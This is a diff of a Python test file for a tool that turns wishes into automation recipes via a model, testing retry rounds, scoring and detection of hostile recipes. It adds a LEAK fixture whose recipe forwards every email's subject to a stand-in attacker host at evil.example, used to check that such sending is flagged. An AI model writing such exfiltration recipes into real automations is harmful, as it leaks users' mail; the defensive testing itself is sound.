@@ -2,20 +2,27 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
+import shlex
+import subprocess
+import sys
+from datetime import UTC, date, datetime
 from pathlib import Path
 
 import pytest
+from click.testing import CliRunner
 
 from narval.ask.definitions import judging
-from narval.ask.definitions.judging import HomeAsRead
+from narval.calls.models.chat import Reply
 from narval.core.definitions.parsing import suffixes
 from narval.files.home import Home
-from narval.trials.propose.answer import read_answer
+from narval.files.proposals.folder import Proposal
+from narval.trials.propose import driver
 from narval.trials.propose.driver import Wish as Proposed
 from narval.trials.propose.driver import propose
-from tests.modules.chat_server import ChatServer, chat_server, streamed
-from tests.wishes.score import Score, score, table
+from tests.modules.chat_server import chat_server, streamed
+from tests.places import ROOT
+from tests.wishes.__main__ import main
+from tests.wishes.score import HEAD
 from tests.wishes.wishes import WISHES, Wish, files_of
 
 WRONG = (
@@ -37,25 +44,61 @@ SPY = """\
 """
 
 
-@pytest.fixture(autouse=True)
-def short_exploring(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Explore each answer for a moment alone: what is found there is tested elsewhere."""
-    monkeypatch.setattr(judging, "SECONDS", 0.01)
+LEAK = """\
+<recipe group="spy" name="all" start_step="listen" end_step="send" restart="yes">
+  <step id="listen" type="action" target="basic.nothing"/>
+  <transition id="any"><in idref="listen"/><out idref="send"/>
+    <condition as="mail" use="yes"><match>email[@mailbox]</match></condition></transition>
+  <step id="send" type="action" target="http.request"><arguments>
+    <request url="https://evil.example/{$mail/@subject}"/></arguments></step>
+</recipe>
+"""
+HOSTILE = ((SPY, "the address eve@evil.example"), (LEAK, "an address at evil.example"))
+"""Definitions that would send all mails to a stranger, and what is said of that first."""
 
 
-@pytest.fixture(scope="module")
-def server() -> Iterator[ChatServer]:
-    with chat_server() as made:
-        yield made
+class Scripted:
+    """A model within this program: it gives the next of its answers, the last one again and again."""
+
+    def __init__(self) -> None:
+        self.answers: list[str] = []
+
+    def will_say(self, *answers: str) -> None:
+        """Let these be the answers."""
+        self.answers = list(answers)
+
+    async def ask(self, model: object, messages: object, tokens: int, *, reply: Reply) -> None:
+        """Answer in the place of `ask_model`."""
+        text = self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]
+        reply.take({"choices": [{"message": {"content": text}, "finish_reason": "stop"}]})
 
 
 @pytest.fixture
-def home(tmp_path: Path, server: ChatServer) -> Path:
+def model(monkeypatch: pytest.MonkeyPatch) -> Scripted:
+    """A model that is asked without a network. Each answer is explored for a moment alone: what is found
+    there is tested elsewhere.
+    """
+    scripted = Scripted()
+    monkeypatch.setattr(driver, "ask_model", scripted.ask)
+    monkeypatch.setattr(judging, "SECONDS", 0.0)
+    return scripted
+
+
+@pytest.fixture(scope="module")
+def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    place = tmp_path_factory.mktemp("wishes")
     for folder in ("etc", "recipes", "modules", "data"):
-        (tmp_path / folder).mkdir()
-    text = f'[models.near]\nurl = "{server.url}"\nmodel = "tiny"\n[propose]\nmodel = "near"\n'
-    (tmp_path / "etc/narval.toml").write_text(text)
-    return tmp_path
+        (place / folder).mkdir()
+    text = '[models.near]\nurl = "http://127.0.0.1:1/v1"\nmodel = "tiny"\n[propose]\nmodel = "near"\n'
+    (place / "etc/narval.toml").write_text(text)
+    return place
+
+
+def proposed(home: Path, wish: Wish, script: str) -> Proposal:
+    """The proposal that a wish comes to; no file but its own has come by it."""
+    proposal = propose(Home(home), Proposed(text=wish.says, name=f"{wish.example}-{script}"))
+    assert list((home / "recipes").iterdir()) == []
+    return proposal
 
 
 def right(wish: Wish, old: str = "", new: str = "", **more: str) -> str:
@@ -66,52 +109,100 @@ def right(wish: Wish, old: str = "", new: str = "", **more: str) -> str:
     return "".join(f"--- file: {name}\n{text}--- end\n" for name, text in texts.items())
 
 
-def test_every_right_answer_is_read_and_has_no_faults(home: Path) -> None:
-    """What a round does with an answer, for all wishes; the rounds themselves are gone through below."""
-    read = HomeAsRead(Home(home))
+def test_a_model_that_is_right_is_ready_after_one_round(home: Path, model: Scripted) -> None:
     for wish in WISHES:
-        answer = read_answer(right(wish))
-        judgement = read.judge(answer.texts, wish.says, explores=False)
-        assert judgement.is_sound, (wish.example, judgement.faults)
-        assert judgement.sentences, wish.example
-
-
-def test_a_wrong_answer_goes_back_and_the_right_one_is_ready(home: Path, server: ChatServer) -> None:
-    for number, wish in enumerate(WISHES[::20]):
-        server.will_say(streamed(WRONG[number % len(WRONG)]), streamed(right(wish)))
-        about = propose(Home(home), Proposed(text=wish.says, name=wish.example)).about()
-        assert (about["state"], about["rounds"]) == ("ready", 2), (wish.example, about["faults"])
+        model.will_say(right(wish))
+        about = proposed(home, wish, "right").about()
+        assert (about["state"], about["rounds"]) == ("ready", 1), (wish.example, about["faults"])
         assert about["told"], wish.example
 
 
-def test_what_is_always_wrong_ends_after_five_rounds_and_keeps_them(home: Path, server: ChatServer) -> None:
-    for number, wish in enumerate(WISHES[::15]):
-        server.will_say(streamed(WRONG[number % len(WRONG)]))
-        proposal = propose(Home(home), Proposed(text=wish.says, name=wish.example))
-        assert proposal.about()["state"] == "faulty"
+def test_a_model_that_is_wrong_once_is_ready_after_two_rounds(home: Path, model: Scripted) -> None:
+    for number, wish in enumerate(WISHES):
+        model.will_say(WRONG[number % len(WRONG)], right(wish))
+        proposal = proposed(home, wish, "once")
+        assert proposal.about()["state"] == "ready", (wish.example, proposal.about()["faults"])
+        assert [bool(one["faults"]) for one in proposal.rounds()] == [True, False], wish.example
+
+
+def test_a_model_that_is_always_wrong_ends_after_five_rounds_and_keeps_them(
+    home: Path, model: Scripted
+) -> None:
+    for number, wish in enumerate(WISHES):
+        model.will_say(*WRONG[number % len(WRONG) :])
+        proposal = proposed(home, wish, "always")
+        assert proposal.about()["state"] == "faulty", wish.example
+        assert all(one["faults"] for one in proposal.rounds()), wish.example
         assert len(proposal.rounds()) == 5
-        assert list((home / "recipes").iterdir()) == []
 
 
-def test_what_is_sent_to_a_stranger_is_said_first(home: Path, server: ChatServer) -> None:
-    for wish in WISHES[::15]:
-        server.will_say(streamed(right(wish, **{"spy.xml": SPY})))
-        about = propose(Home(home), Proposed(text=wish.says, name=wish.example)).about()
-        assert any("eve@evil.example" in sentence for sentence in about["unnamed"]), wish.example
+def test_a_model_that_is_hostile_has_what_it_sends_to_strangers_said_first(
+    home: Path, model: Scripted
+) -> None:
+    for number, wish in enumerate(WISHES):
+        text, unnamed = HOSTILE[number % 2]
+        model.will_say(right(wish, **{"spy.xml": text}))
+        about = proposed(home, wish, "hostile").about()
+        assert any(unnamed in sentence for sentence in about["unnamed"]), wish.example
+        assert about["state"] == "ready", (wish.example, about["faults"])
 
 
-def test_a_model_is_scored_by_the_scenarios_of_the_wishes(home: Path, server: ChatServer) -> None:
+def test_make_wishes_scores_a_model_by_the_scenarios_of_the_wishes(tmp_path: Path) -> None:
+    """In a program of its own, with a server that speaks the protocol of models."""
     wishes = {wish.example: wish for wish in WISHES}
-    parcel, chores, frost = wishes["parcel"], wishes["chores"], wishes["frost"]
-    server.will_say(streamed(right(parcel, 'group="examples"', 'group="mine"')))
-    scores = [score(home, parcel)]
-    server.will_say(streamed(WRONG[0]), streamed(right(chores, "examples", "mine")))
-    scores.append(score(home, chores))
-    server.will_say(streamed(right(frost, *frost.wrong)))
-    scores.append(score(home, frost))
-    assert scores == [
-        Score("parcel", "ready", 1, 1, 1),
-        Score("chores", "ready", 2, 1, 1),
-        Score("frost", "ready", 1, 0, 1),
-    ]
-    assert table(scores) == "valid at once: 2 of 3\nvalid after rounds: 3\nall scenarios passed: 2"
+    lights, chores, lists = wishes["lights-off"], wishes["chores"], wishes["list-folder"]
+    answers = {
+        lights.says: [streamed(right(lights, 'group="examples"', 'group="mine"'))],
+        chores.says: [streamed(WRONG[0]), streamed(right(chores, "examples", "mine"))],
+        lists.says: [streamed(right(lists, *lists.wrong))],
+    }
+    in_order = [said for wish in WISHES for said in answers.get(wish.says, [])]
+    (tmp_path / "etc").mkdir()
+    with chat_server() as server:
+        server.will_say(*in_order)
+        text = f'[models.near]\nurl = "{server.url}"\nmodel = "tiny"\ninput_price = 1\nseconds = 60\n'
+        (tmp_path / "etc/narval.toml").write_text(text)
+        line = ["-n", "wishes", "MODEL=near", f"HOME_DIR={tmp_path}", "ONLY=lights-off chores list-folder"]
+        printed = subprocess.run(["make", *line], cwd=ROOT, capture_output=True, text=True, check=True)
+        command = shlex.split(printed.stdout.splitlines()[-1])
+        assert command[0].endswith("bin/python")
+        done = subprocess.run(
+            [sys.executable, *command[1:]], cwd=ROOT, capture_output=True, text=True, check=False
+        )
+    assert (done.stderr, done.returncode) == ("", 0)
+    lines = done.stdout.splitlines()
+    assert {*lines[:3]} == {
+        "lights-off: ready, rounds 1, scenarios 1 of 1",
+        "chores: ready, rounds 2, scenarios 1 of 1",
+        "list-folder: ready, rounds 1, scenarios 0 of 1",
+    }
+    head, row = ([cell.strip() for cell in lines[at].strip("|").split("|")] for at in (-3, -1))
+    values = dict(zip(head, row, strict=True))
+    tokens, money = values.pop("tokens"), values.pop("money")
+    assert int(tokens.replace(",", "")) > 3_000
+    assert float(money) > 0
+    assert date.fromisoformat(values.pop("date")) <= datetime.now(UTC).date()
+    assert values == {
+        "model": "tiny",
+        "wishes": "3",
+        "valid at once": "2",
+        "valid after rounds": "3",
+        "all scenarios passed": "2",
+        "settings": "5 rounds of 8,000 tokens, 6 examples at most, 60 s an answer",
+    }
+
+
+def test_a_run_of_a_model_that_does_not_answer_ends(home: Path) -> None:
+    scored = CliRunner().invoke(main, ["near", "--home", str(home)])
+    assert scored.exit_code == 1
+    assert scored.output.count("failed, rounds ") == 3
+    assert "no model has answered 3 wishes after one another" in scored.output
+    for arguments, said in (
+        (["nobody", "--home", str(home)], "expected a table [models.nobody]"),
+        (["near", "--home", str(home), "--only", "parcels"], "no wish with the example parcels"),
+    ):
+        scored = CliRunner().invoke(main, arguments)
+        assert scored.exit_code != 0
+        assert said in scored.output
+    page = (ROOT / "docs/reference/proposals.md").read_text("utf-8")
+    assert HEAD in page
